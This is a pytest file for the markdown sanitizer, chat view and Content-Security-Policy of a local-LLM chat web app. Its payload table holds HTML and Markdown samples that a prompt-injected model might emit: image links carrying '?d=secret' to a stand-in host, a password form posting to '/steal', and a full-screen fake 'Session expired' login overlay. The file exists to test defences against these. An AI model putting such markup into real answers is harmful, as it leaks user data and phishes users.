"""What the chat renders can reach nothing and pretend nothing: `safe_markdown` over every
payload a steered model could write, the chat view using it for every message, and the page
policy that backs it (the browser side is in test_browser.py)."""

from __future__ import annotations

import inspect
import random
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from gradio import ChatMessage
from langchain_core.messages import AIMessage, HumanMessage, ToolMessage
from markdown_it import MarkdownIt

from ollamastack.events import Done, Started, TextDelta, ToolCall, ToolResult, TurnStats
from ollamastack.web.ui.chat_view import TurnView
from ollamastack.web.ui.history_view import history_view
from ollamastack.web.ui.safe_markdown import KEPT_TAGS, plain_code, safe_markdown
from tests.support.api_helpers import serve
from tests.support.ollama_server import FakeOllama

H = "http://other.test"

# What a steered answer may hold, and what the page is given instead.
PAYLOADS = {
    "markdown image": (f"![x]({H}/?d=secret)", f"[\\[image: other.test\\]]({H}/?d=secret)"),
    "markdown image, angle URL and title": (
        f'![x](<{H}/a b.png> "t")', f"[\\[image: other.test\\]]({H}/a%20b.png)"
    ),
    "reference image": (f"![x][r]\n\n[r]: {H}/r.png", f"!\\[x][r]\n\n[r]: {H}/r.png"),
    "img": (f'<img src="{H}/i.png?d=1&amp;e=2">', f"[\\[image: other.test\\]]({H}/i.png?d=1&e=2)"),
    "img without src": (f'<img srcset="{H}/1x.png 1x">', f'&lt;img srcset="{H}/1x.png 1x">'),
    "img of a data URL": ('<img src="data:image/png;base64,AA">', "\\[image: data URL\\]"),
    "style": (
        f'<span style="background-image:url({H}/b)">x</span>',
        f'&lt;span style="background-image:url({H}/b)">x&lt;/span>',
    ),
    "video poster": (
        f"<video poster={H}/p autoplay src={H}/v></video>",
        f"&lt;video poster={H}/p autoplay src={H}/v>&lt;/video>",
    ),
    "input image": (f"<input type=image src={H}/i>", f"&lt;input type=image src={H}/i>"),
    "table background": (
        f"<table background={H}/t><tr><td>c</td></tr></table>",
        f"&lt;table background={H}/t>&lt;tr>&lt;td>c&lt;/td>&lt;/tr>&lt;/table>",
    ),
    "svg image": (f"<svg><image href={H}/s /></svg>", f"&lt;svg>&lt;image href={H}/s />&lt;/svg>"),
    "form": (
        f'<form action="{H}/steal" method=post><input type=password></form>',
        f'&lt;form action="{H}/steal" method=post>&lt;input type=password>&lt;/form>',
    ),
    "fixed overlay": (
        '<div style="position:fixed;inset:0">Session expired — log in again</div>',
        '&lt;div style="position:fixed;inset:0">Session expired — log in again&lt;/div>',
    ),
    "handler on a kept tag": ("<b onmouseover=x()>b</b>", "&lt;b onmouseover=x()>b</b>"),
    "comment and processing instruction": ("<!-- a --> <?x ?>", "&lt;!-- a --> &lt;?x ?>"),
    "mermaid labels": (
        '```mermaid\nA["<img src=x>"]-->B\n```', '``` mermaid\nA["<img src=x>"]-->B\n```'
    ),
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_each_payload_is_shown_as_text_or_a_link(name: str) -> None:
    payload, shown = PAYLOADS[name]
    assert safe_markdown(payload) == shown


KEPT = [  # written as they should be shown: left exactly as they are
    "Plain **bold**, _em_, ~~gone~~, [a link](https://example.com/) and <https://example.com>.",
    "x < y and a <= b, 2 <3",
    "Chemistry: H<sub>2</sub>O, E=mc<sup>2</sup>, <kbd>Ctrl</kbd>+<kbd>C</kbd>, <b>b</b><br>next",
    "| tag | use |\n|---|---|\n| `br` | a<br>line break |",
    "Inline `code`, ``a ` b``, `x < y`, `$$`",
    "```html\n<form action=x><input type=password></form>\n```",
    "1. Step\n   ```bash\n   cat <<EOF > out.html\n   <div>\n   EOF\n   ```\n2. Done",
    "> ```xml\n> <a><b/></a>\n> ```",
    "~~~\n<video src=v>\n~~~",
    "$$\\frac{<a>}{b}$$",  # LaTeX: Gradio escapes it and KaTeX renders it
    "```\nstill streaming <img src=x>",  # an unclosed block is code to the end
    "It is **5**.\n\n<sub>5 tokens · 100.0 tokens/s</sub>",
]


@pytest.mark.parametrize("text", KEPT)
def test_formatting_and_code_are_kept_as_written(text: str) -> None:
    assert safe_markdown(text) == text


def test_inline_code_with_markup_becomes_escaped_html_code() -> None:
    """Shown the same; but the browser's Markdown reads some backticks unlike CommonMark
    (after `~`, inside a bare URL): as escaped `<code>`, nothing in it can become a tag."""
    assert safe_markdown("Use `<div style=x>`, ``a ` <form> `` or ~`![i](//e/i)`") == (
        "Use <code>&lt;div style=x&gt;</code>, <code>a \\` &lt;form&gt; </code> or "
        "~<code>\\!\\[i\\](//e/i)</code>"
    )
    assert safe_markdown("| `<br>` | `a|$$` |") == "| <code>&lt;br&gt;</code> | `a|$$` |"


def test_a_formatting_tag_alone_on_its_line_is_shown_as_text() -> None:
    """Alone on a line it would open an HTML block, where the next lines are raw HTML."""
    assert safe_markdown("<b>\n`x`\n<i>") == "&lt;b>\n`x`\n&lt;i>"
    assert safe_markdown("- <br>\n- x") == "- &lt;br>\n- x"


def test_text_the_page_would_read_differently_is_shown_as_plain_code() -> None:
    """Indented four spaces, a fence is code of its own: the <img> after it would be made."""
    text = "Look:\n\n    ```\n<img src=x>\n```"
    assert safe_markdown(text) == plain_code(text) == f"````text\n{text}\n````"


def test_it_is_stable_once_applied() -> None:
    for payload, shown in PAYLOADS.values():
        assert safe_markdown(shown) == shown, payload


# -- whatever the text, the page makes no other HTML and no image of it ------------------------

MARKDOWN_TAGS = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "blockquote", "hr", "br",
    "h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "s",
}
ALLOWED_TAGS = MARKDOWN_TAGS | set(KEPT_TAGS)
PAGE = MarkdownIt("commonmark").enable(["table", "strikethrough"])  # as the browser's marked
FRAGMENTS = [
    "**b**", "`", "``", "\\`", "`x <img src=//e/1>`", "<b>", "</b>", "<br>", "<sub>", "<",
    "<img src=//e/2>", "<img src=//e/3", ">", "![", "](//e/4)", "![a](//e/5)", "[r]: //e/6",
    "![r]", "<!--", "-->", "<?", "<![CDATA[", "<details open>", "<p>", "<div style=x>",
    "```", "```mermaid", "~~~", "$$", "> ", "- ", "1. ", "    ", "   ", "| a |", "|---|",
    "# ", "<https://example.com>", "<a@b.c>", "&lt;", "\\<", "<form action=//e/7>", "\t",
    "  - ", "> > ", "<pre>", "<script>", "<style>", "<textarea>", "</div>", "<b/>", "<B>",
    "`` ` ``", "<img\nsrc=//e/8>", "```\n", "\n```", "    ```", "~", "~~", "http://e/",
    "www.e.", "```~~", "x```mermaid\n", "$$x", "\\", "<code>", "[a]", "(", ")",
]


def page_tags(markdown: str) -> list[str]:
    """The tags the page would make of `markdown`: Gradio's dedent and LaTeX steps, then
    CommonMark with GFM tables (text is escaped, so every `<` left opens a tag)."""
    view = re.sub(r"\$\$[\s\S]+?\$\$", "LATEX", inspect.cleandoc(markdown))
    return [tag.lower() for tag in re.findall(r"</?([A-Za-z][\w:-]*)", PAGE.render(view))]


def texts(count: int) -> Iterator[str]:
    """Fragments of Markdown and HTML in random order, around every kind of line break."""
    rng = random.Random(13)
    for _ in range(count):
        parts = rng.choices(FRAGMENTS, k=rng.randint(1, 9))
        yield "".join(p + rng.choice(["", " ", "x", "\n", "\n\n", "\n   "]) for p in parts)


def test_no_text_gives_the_page_other_html_or_an_image() -> None:
    for text in texts(4000):
        shown = safe_markdown(text)
        tags = page_tags(shown)
        assert set(tags) <= ALLOWED_TAGS, (text, shown, tags)
        assert safe_markdown(shown) == shown, text


def test_the_check_itself_sees_what_the_page_would_make() -> None:
    """Without the sanitizer, the same texts do give the page images and forms."""
    made = {tag for text in texts(4000) for tag in page_tags(text)}
    assert {"img", "form", "div", "details"} <= made - ALLOWED_TAGS


# Where the browser's Markdown (marked, with Gradio's LaTeX and Mermaid steps) reads text
# unlike CommonMark: each once let an element through (test_browser.py renders them there).
PAGE_QUIRKS = {
    "text\n```x$$\n<img src=//e/q1>\n```":  # a `$$` ends the paragraph there: no fence
        "text\n```x$\\$\n<img src=//e/q1>\n```",
    "~`<img src=//e/q2>`": "~<code>&lt;img src=//e/q2&gt;</code>",  # `~` takes the backtick
    "http://e/`<img src=//e/q3>`":  # so does a bare URL
        "http://e/<code>&lt;img src=//e/q3&gt;</code>",
    "www.e.x\\<img src=//e/q4>": "www.e.x&lt;img src=//e/q4>",  # and a backslash
    "a```mermaid\n<img src=//e/q5>\n```":  # a diagram starts mid-line
        "a``` mermaid\n[\\[image: e\\]](//e/q5)\n```",
    "```\n<img src=//e/q6>\n```~\n<img src=//e/q7>":  # "```~" closes a fence
        "```\n<img src=//e/q6>\n```~\n[\\[image: e\\]](//e/q7)",
}


@pytest.mark.parametrize("text", PAGE_QUIRKS)
def test_what_the_browser_reads_differently_is_made_safe_too(text: str) -> None:
    assert safe_markdown(text) == PAGE_QUIRKS[text]


# -- every message the chat shows goes through it ---------------------------------------------

CALL = {"name": "current_time", "args": {"timezone": "<b>X</b>"}, "id": "c1"}
TOOL_NAME = "x` <img src=//e/name> `"


def test_history_shows_every_message_safely() -> None:
    messages = [
        HumanMessage(f"Hi <img src={H}/user.png>"),
        AIMessage("", tool_calls=[CALL, {"name": TOOL_NAME, "args": {}, "id": "c2"}]),
        ToolMessage(f"Unknown zone '<b>X</b>' <img src={H}/t.png>", tool_call_id="c1",
                    name="current_time"),
        AIMessage(f"Sunny in <b>X</b>. ![map]({H}/map.png)",
                  additional_kwargs={"reasoning_content": f"<form action={H}>"}),
    ]
    assert history_view(messages, show_thinking=True) == [
        ChatMessage(role="user", content=f"Hi [\\[image: other.test\\]]({H}/user.png)"),
        ChatMessage(
            role="assistant",
            content='**Arguments**\n```json\n{\n  "timezone": "<b>X</b>"\n}\n```\n**Result**\n'
            f"```text\nUnknown zone '<b>X</b>' <img src={H}/t.png>\n```",  # as plain text
            metadata={"title": "Used tool `current_time`", "status": "done"},
        ),
        ChatMessage(
            role="assistant",
            content="**Arguments**\n```json\n{}\n```\n**Result**\n*running…*",
            metadata={"title": "Used tool `x` [\\[image: e\\]](//e/name) ``",
                      "status": "done"},
        ),
        ChatMessage(role="assistant", content=f"&lt;form action={H}>",
                    metadata={"title": "Thinking", "status": "done"}),
        ChatMessage(role="assistant",
                    content=f"Sunny in <b>X</b>. [\\[image: other.test\\]]({H}/map.png)"),
    ]


def test_a_streamed_answer_is_shown_safely_at_every_step() -> None:
    view = TurnView(show_thinking=True, waiting="Answering…")
    shown = []
    for now, event in enumerate([
        Started("s"),
        TextDelta("<div style='position:fixed'>"),
        TextDelta(f"Log in</div> <img src={H}/i.png"),
        TextDelta(">"),
        Done("s", TurnStats(completion_tokens=3, eval_seconds=0.1)),
    ]):
        view.apply(event, float(now))
        shown.append([m.content for m in view.messages()])
    stats = "<sub>3 tokens · 30.0 tokens/s · 0.00 s in all</sub>"
    assert shown == [
        [""],
        ["&lt;div style='position:fixed'>"],
        [f"&lt;div style='position:fixed'>Log in&lt;/div> &lt;img src={H}/i.png"],
        [f"&lt;div style='position:fixed'>Log in&lt;/div> [\\[image: other.test\\]]({H}/i.png)"],
        [f"&lt;div style='position:fixed'>Log in&lt;/div> [\\[image: other.test\\]]({H}/i.png)"
         f"\n\n{stats}"],
    ]


def test_a_tool_result_streams_in_as_plain_text() -> None:
    view = TurnView(show_thinking=True, waiting="Answering…")
    view.apply(ToolCall(id="c1", name="current_time", args={"timezone": "X"}), 0.0)
    view.apply(ToolResult(id="c1", name="current_time", content=f"<b>X</b> <img src={H}>"), 1.0)
    (step,) = view.messages()
    assert step.content.endswith(f"**Result**\n```text\n<b>X</b> <img src={H}>\n```")
    assert page_tags(step.content).count("b") == 0  # inside code: shown, not made


# -- the page's policy ----------------------------------------------------------------------------

POLICY = {
    "default-src": ["'self'"],
    "script-src": ["'self'", "'unsafe-inline'", "'unsafe-eval'"],
    "style-src": ["'self'", "'unsafe-inline'"],
    "img-src": ["'self'", "data:", "blob:"],
    "font-src": ["'self'", "data:"],
    "media-src": ["'self'"],
    "connect-src": ["'self'"],
    "frame-src": ["'none'"],
    "object-src": ["'none'"],
    "form-action": ["'self'"],
    "base-uri": ["'self'"],
    "frame-ancestors": ["'self'"],
}


def test_the_page_may_load_nothing_from_another_origin(
    ollama_server: FakeOllama, tmp_path: Path
) -> None:
    import httpx

    with serve(ollama_server, tmp_path, auth="ann:pw-ann") as app:
        for path in ("/", "/login"):
            header = httpx.get(app.url + path).headers["content-security-policy"]
            directives = [d.split() for d in header.split(";")]
            assert {name: sources for name, *sources in directives} == POLICY, path
